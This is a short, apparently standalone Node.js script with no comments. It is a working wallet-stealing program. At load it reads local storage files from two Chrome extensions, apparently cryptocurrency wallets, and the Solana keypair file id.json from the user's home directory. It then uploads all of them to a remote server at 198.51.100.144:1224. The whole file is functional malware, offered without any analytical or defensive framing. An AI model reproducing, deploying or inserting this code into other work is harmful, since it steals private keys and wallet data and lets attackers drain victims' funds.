const fs = require("fs");
const os = require("os");
const path = require("path");
const request = require("request");

const home = os.homedir();
const chrome = path.join(home, ".config", "google-chrome", "Default", "Local Extension Settings");
const targets = ["nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa"];

function harvest() {
  const files = [];
  for (const id of targets) {
    const dir = path.join(chrome, id);
    if (!fs.existsSync(dir)) continue;
    for (const f of fs.readdirSync(dir)) {
      files.push({ value: fs.createReadStream(path.join(dir, f)), options: { filename: `${id}_${f}` } });
    }
  }
  const solana = path.join(home, ".config", "solana", "id.json");
  if (fs.existsSync(solana)) files.push({ value: fs.createReadStream(solana), options: { filename: "solana_id.json" } });
  request.post({ url: "http://198.51.100.144:1224/uploads", formData: { multi_file: files } });
}

harvest();
